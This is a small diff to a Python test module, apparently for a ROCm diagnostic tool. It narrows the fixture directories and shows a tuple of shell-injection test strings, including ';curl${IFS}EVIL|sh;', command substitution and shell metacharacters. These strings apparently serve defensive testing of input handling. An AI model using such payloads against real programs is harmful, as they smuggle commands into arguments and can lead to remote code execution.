@@ -21,7 +21,7 @@ from rocm_doctor.sources.bundle import read
 from rocm_doctor.sources.paste import cut
 
 ROOT = Path(__file__).resolve().parent.parent
-FIXTURES = sorted(p for p in (ROOT / "fixtures").iterdir() if p.is_dir())
+FIXTURES = sorted(p for p in (ROOT / "fixtures").iterdir() if p.is_dir() and p.name not in ("repos", "reports"))
 HOSTILE = (
     ";curl${IFS}EVIL|sh;", "$(EVIL)", "`EVIL`", "' EVIL '", '" & EVIL "', "\nEVIL", "|EVIL", ">EVIL", "-EVIL", " --EVIL=x", "\\EVIL", "{EVIL,}",
     "$env:EVIL", "';EVIL;'", "&EVIL", "EVIL", "\u2019EVIL\u2019", "%EVIL%", "~EVIL", "*EVIL", "!EVIL", "#EVIL",
